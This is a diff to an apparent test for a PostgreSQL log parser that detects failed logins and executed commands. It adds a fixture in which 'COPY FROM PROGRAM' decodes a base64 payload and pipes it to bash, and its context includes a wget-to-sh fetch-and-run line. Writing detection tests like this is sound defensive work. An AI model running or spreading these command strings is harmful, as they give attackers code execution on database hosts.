@@ -55,6 +55,8 @@ test('what PostgreSQL itself writes', () => {
     'login-failed failure postgres 198.51.100.7 postgresql',
     'login-failed failure nobody postgresql',
   ])
+  const [packed] = draftsOf(postgresqlLog, '/x', `${head}LOG:  statement: COPY a FROM PROGRAM 'echo ''Y3VybCBY''|base64 -d|bash'`)
+  assert.equal(packed?.command, "echo 'Y3VybCBY'|base64 -d|bash")
   const [program] = draftsOf(postgresqlLog, '/x', lines[10]!)
   assert.equal(program?.command, 'wget -q -O - http://127.0.0.1:1/x.sh | sh; exit 3')
 })
